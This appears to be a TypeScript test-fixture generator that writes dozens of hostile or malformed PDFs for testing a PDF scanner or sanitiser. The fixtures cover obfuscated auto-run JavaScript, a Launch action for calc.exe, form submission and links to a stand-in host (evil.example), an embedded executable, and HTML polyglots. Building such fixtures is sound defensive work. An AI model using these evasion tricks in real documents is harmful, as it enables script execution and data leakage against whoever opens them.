import { deflateSync } from "node:zlib";
import { pdfFile, type PdfParts } from "../pdf-file";
import { pdf, jpg, zip, write } from "./shared";

const js = "/S/JavaScript/JS(app.alert\\(1\\))";
const pdfs: Record<string, PdfParts> = {
  "open-script.pdf": { catalog: `/OpenAction<<${js}>>` },
  "open-script-by-reference.pdf": { catalog: "/OpenAction 9 0 R", more: [[9, `<<${js}>>`]] },
  "script-escaped-name.pdf": { catalog: "/OpenAction<</S/J#61v#61Script/#4aS(1)>>" },
  "script-name-by-reference.pdf": {
    catalog: "/OpenAction<</S 9 0 R/JS 10 0 R>>",
    more: [
      [9, "/JavaScript"],
      [10, "(1)"],
    ],
  },
  "script-in-names.pdf": { catalog: `/Names<</JavaScript<</Names[(a)<<${js}>>]>>>>` },
  "script-in-field.pdf": {
    page: `/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<<${js}>>>>>>]`,
  },
  "script-nested-next.pdf": {
    page: `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]/Next<<${js}>>>>>>]`,
  },
  "script-key-twice.pdf": { catalog: "/OpenAction<</S/GoTo/S/JavaScript/D[3 0 R/Fit]/JS(1)>>" },
  "script-in-object-stream.pdf": { catalog: "/OpenAction 20 0 R", packed: [[20, `<<${js}>>`]] },
  "script-in-uncompressed-object-stream.pdf": {
    catalog: "/OpenAction 20 0 R",
    packed: [[20, `<<${js}>>`]],
    plain: true,
  },
  "script-replaced-later.pdf": {
    more: [
      [9, `<<${js}>>`],
      [9, "<</S/GoTo/D[3 0 R/Fit]>>"],
    ],
    catalog: "/OpenAction 9 0 R",
  },
  "script-hidden-in-stream.pdf": {
    more: [[9, `<</Length 70>>stream\n20 0 obj <<${js}>> endobj                      \nendstream`]],
  },
  "script-behind-comment.pdf": { more: [[9, `%x\n<<%y\n/S%z\n/JavaScript/JS<31>>>`]] },
  "launch.pdf": { page: "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>]" },
  "submit-form.pdf": {
    page: "/Annots[<</Subtype/Widget/FT/Btn/T(a)/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]",
  },
  "import-data.pdf": { catalog: "/OpenAction<</S/ImportData/F(a.fdf)>>" },
  "open-web-page.pdf": { catalog: "/OpenAction<</S/URI/URI(https://evil.example)>>" },
  "page-opens-web-page.pdf": { page: "/AA<</O<</S/URI/URI(https://evil.example)>>>>" },
  "script-link.pdf": {
    page: "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(java\\nscript:alert\\(1\\))>>>>]",
  },
  "xfa-form.pdf": {
    catalog: "/AcroForm<</Fields[]/XFA 9 0 R>>",
    more: [[9, "<</Length 3>>stream\nabc\nendstream"]],
  },
  "go-to-other-file.pdf": {
    page: "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>>>]",
  },
  "data-elsewhere.pdf": {
    more: [[9, "<</Length 0/F(https://evil.example/a)>>stream\n\nendstream"]],
  },
  "rich-media.pdf": {
    page: "/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent 9 0 R>>]",
  },
  "attachment-annotation.pdf": {
    page: "/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>>>]",
    more: [[9, "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]],
  },
  "movie.pdf": { page: "/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a.avi)>>>>]" },
  "huge-picture.pdf": {
    more: [
      [
        9,
        "<</Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Length 1>>stream\nx\nendstream",
      ],
    ],
  },
  "packed-twice.pdf": {
    more: [[9, "<</Filter[/FlateDecode/Fl#61teDecode]/Length 1>>stream\nx\nendstream"]],
  },
  "odd-object-stream.pdf": {
    more: [
      [9, "<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode]/Length 2>>stream\n3>\nendstream"],
    ],
  },
  "pages-without-end.pdf": { kids: "2 0 R 2 0 R" },
  "no-pages.pdf": { kids: "" },
};
for (const [name, parts] of Object.entries(pdfs)) write(name, pdfFile(parts));
write("behind-page.pdf", "<html><script>1</script></html>", pdf);
write("behind-line.pdf", "\n\n", pdf);
write("page-in-head.pdf", "%PDF-1.4\n<script>alert(1)</script>\n", pdf.subarray(9));
write("page-in-comment.pdf", "%PDF-1.4 <script>alert(1)</script>\n", pdfFile({}).subarray(9));
write("appended-zip.pdf", pdf, zip);
write("appended-page.pdf", pdf, "<html><script>alert(1)</script></html>");
write(
  "zip-as-object.pdf",
  pdfFile({
    more: [
      [9, `<</Length ${zip.length}>>stream\n${Buffer.from(zip).toString("latin1")}\nendstream`],
    ],
  }),
);
write("truncated.pdf", pdf.subarray(0, 9000));
write("version-only.pdf", "%PDF-1.7\n");
write("jpeg-named.pdf", jpg);
write("deflated-only.pdf", deflateSync(pdf));
